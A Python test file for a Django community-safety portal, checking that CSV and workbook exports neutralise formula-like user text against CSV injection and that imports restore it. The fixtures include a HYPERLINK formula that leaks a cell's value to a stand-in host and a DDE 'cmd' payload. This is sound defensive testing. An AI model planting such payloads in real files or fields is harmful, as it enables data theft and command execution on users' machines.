"""Downloads never hand a spreadsheet a formula that came from user text ("CSV injection"): in CSV
such cells are kept as text by a leading apostrophe, which the action plan import takes off again;
in a workbook they are stored as text."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from actionplans import importer
from actionplans.models import Action
from assessments.models import CrimeCount
from csp_portal.exports import neutralise
from csp_portal.organisations.models import Authority
from tests.actionplans.factories import ActionFactory, PlanFactory, PriorityFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 1524 582000", "'+44 1524 582000"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("-250", "-250"),
        ("-2.5", "-2.5"),
        ("Reduce burglary", "Reduce burglary"),
        (12, 12),
    ],
)
def test_formula_text_is_neutralised_and_numbers_are_not(value, kept):
    assert neutralise(value) == kept


@pytest.fixture
def plan(cast):
    plan = PlanFactory(partnership=cast.lancaster, title="Lancaster District Community Safety Plan")
    priority = PriorityFactory(plan=plan, title="Road safety", order=1)
    ActionFactory(priority=priority, title=FORMULA, activity="@SUM(A1)", targets="-10% collisions", order=1)
    return plan


def export(client, plan, file_format: str) -> bytes:
    url = reverse("actionplans:plan_export", args=["lancaster", plan.pk, file_format])
    response = client.get(url)
    assert response.status_code == 200
    return response.content


def test_csv_export_keeps_formulas_as_text_and_imports_back_unchanged(login, cast, plan):
    content = export(login(cast.officer), plan, "csv")
    row = next(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert (row["Action"], row["Activity"], row["Targets"]) == ("'" + FORMULA, "'@SUM(A1)", "'-10% collisions")

    Action.objects.all().delete()
    created = importer.import_actions(plan, actor=cast.officer, data=content, filename="plan.csv")
    assert [(a.title, a.activity, a.targets) for a in created] == [(FORMULA, "@SUM(A1)", "-10% collisions")]


def test_workbook_export_stores_formulas_as_text(login, cast, plan):
    sheet = openpyxl.load_workbook(io.BytesIO(export(login(cast.officer), plan, "xlsx"))).active
    headings = [cell.value for cell in sheet[1]]
    action = sheet.cell(row=2, column=headings.index("Action") + 1)
    assert (action.value, action.data_type) == (FORMULA, "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_crime_counts_download_neutralises_a_crime_type_that_looks_like_a_formula(login, cast):
    CrimeCount.objects.create(
        force="Lancashire Constabulary",
        month=date(2024, 1, 1),
        authority=Authority.objects.get(name="Lancaster"),
        crime_type=FORMULA[:60],
        count=3,
    )
    response = login(cast.analyst).get(reverse("assessments:crime_counts_csv", args=["lancashire"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["crime type"] for row in rows] == ["'" + FORMULA[:60]]
